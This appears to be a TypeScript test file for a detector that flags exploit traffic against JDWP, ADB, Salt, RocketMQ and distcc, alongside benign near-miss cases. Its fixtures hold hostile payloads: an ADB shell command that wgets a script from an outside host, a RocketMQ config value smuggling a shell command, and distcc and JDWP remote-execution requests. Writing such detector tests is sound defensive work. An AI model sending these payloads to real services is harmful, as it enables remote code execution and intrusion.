import assert from 'node:assert/strict'
import { test } from 'node:test'
import { deedsIn, single } from '../../../test/service-talk.ts'
import type { Said } from '../../../test/wire.ts'
import { openDoors } from './open-doors.ts'

const found = (said: readonly Said[]) => deedsIn(openDoors, said).exploits.map(([patch]) => patch)
const jdwp: Said = [0, 'JDWP-Handshake']
const adb: Said = [0, 'CNXN\x00\x00\x00\x01\x00\x10\x00\x00\x07\x00\x00\x00\x32\x02\x00\x00\xb1\xa7\xb1\xbchost::\x00']
const salt: Said = [0, `\xff\0\0\0\0\0\0\0\x01\x7f\x03\0NULL${'\0'.repeat(48)}`]
const distcc = (compiler: string): Said => [
  0,
  `DIST00000001ARGC00000003ARGV0000000${compiler.length}${compiler}ARGV00000002-cARGV00000002id`,
]
const rocket = (code: number, body: string): Said => {
  const head = `{"code":${code},"extFields":{},"flag":0,"language":"JAVA","opaque":0}`
  return [0, `\0\0\0${String.fromCharCode(4 + head.length + body.length)}\0\0\0${String.fromCharCode(head.length)}${head}${body}`]
}

test('a debugger that calls Runtime, a shell over ADB, orders to RocketMQ, Salt and distcc, cut anywhere', () => {
  const talks: readonly (readonly [string, readonly Said[]])[] = [
    ['jdwp-runtime', [jdwp, [1, 'JDWP-Handshake'], [0, '\0\0\0\x1e\0\0\0\x02\0\x01\x02\0\0\0\x13Ljava/lang/Runtime;']]],
    ['adb-shell-download', [adb, [0, 'OPEN\x01\0\0\0shell:cd /data/local/tmp; wget http://203.0.113.7/w.sh\0']]],
    ['salt-unauthenticated', [salt, [0, '\x01\0\0\x27\x82\xa3enc\xa5clear\xa4load\x81\xa3cmd\xaf_prep_auth_info']]],
    ['rocketmq-config', [rocket(25, 'rocketmqHome=-c $@|sh . echo id;\n')]],
    ['distcc-shell', [distcc('sh')]],
  ]
  for (const [patch, said] of talks) {
    assert.deepEqual(found(said), [patch])
    assert.deepEqual(found([said[0]!, ...single(said.slice(1))]), [patch])
  }
})

test('near miss: a debugger at work, a developer’s phone, minions, ordinary settings, words that begin alike', () => {
  for (const said of [
    [jdwp, [0, '\0\0\0\x1c\0\0\0\x02\0\x01\x02\0\0\0\x11Lcom/acme/Orders;']],
    [adb, [0, 'OPEN\x01\0\0\0shell:pm list packages\0']],
    [salt, [0, '\x01\0\0\x40\x82\xa3enc\xa5clear\xa4load\x84\xa3cmd\xa5_auth']],
    [rocket(25, 'flushDiskType=ASYNC_FLUSH\n')],
    [distcc('gcc')],
    [[0, 'CNXN and other letters, wget http://203.0.113.7/w.sh']],
  ] as const satisfies readonly (readonly Said[])[])
    assert.deepEqual(found(said), [])
})
